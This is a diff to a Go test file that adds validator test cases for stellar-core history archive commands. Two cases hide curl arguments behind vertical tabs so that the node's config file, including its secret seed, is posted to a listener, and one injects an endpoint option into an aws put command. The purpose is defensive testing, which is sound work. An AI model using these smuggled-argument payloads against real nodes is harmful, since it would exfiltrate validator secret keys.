@@ -108,7 +108,24 @@ func checkCases() []checkCase {
 		}), "", ""},
 		{"a get command with a pipe", with(explicitQuorum(), func(c map[string]any) {
 			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{0} | gunzip > {1}"}}
-		}), RuleArchiveCommand, "without a shell"},
+		}), RuleArchiveCommand, "not allowed"},
+		// A vertical tab is whitespace to stellar-core's split and to nothing else: the URL becomes
+		// arguments of curl that post the whole file, seed included, to a listener.
+		{"a get command whose URL hides arguments", with(explicitQuorum(), func(c map[string]any) {
+			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf http://127.0.0.1:1/x\v--data-binary\v@/etc/stellar/rendered/stellar-core.cfg\v-H\vx:/{0} -o {1}"}}
+		}), RuleArchiveCommand, "splits into other arguments"},
+		{"a peer's HISTORY whose URL hides arguments", with(organisation(), func(c map[string]any) {
+			c["VALIDATORS"] = []map[string]any{
+				entry("b", 2, "HISTORY", "curl -sf http://b/x\v--data-binary\v@/etc/stellar/rendered/stellar-core.cfg/{0} -o {1}"),
+				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}"),
+			}
+		}), RuleArchiveCommand, "splits into other arguments"},
+		{"a get command with a placeholder stellar-core cannot fill", with(explicitQuorum(), func(c map[string]any) {
+			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{2}/{0} -o {1}"}}
+		}), RuleArchiveCommand, "not allowed"},
+		{"a put command with an option", with(explicitQuorum(), func(c map[string]any) {
+			c["HISTORY"] = map[string]any{"s3": map[string]any{"get": "curl -sf https://h/{0} -o {1}", "put": "aws s3 cp {0} s3://b/{1} --endpoint-url=http://127.0.0.1:1"}}
+		}), RuleArchiveCommand, "not starting with -"},
 		{"a get command without the local path", with(explicitQuorum(), func(c map[string]any) {
 			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{0}"}}
 		}), RuleArchiveCommand, "{1}"},
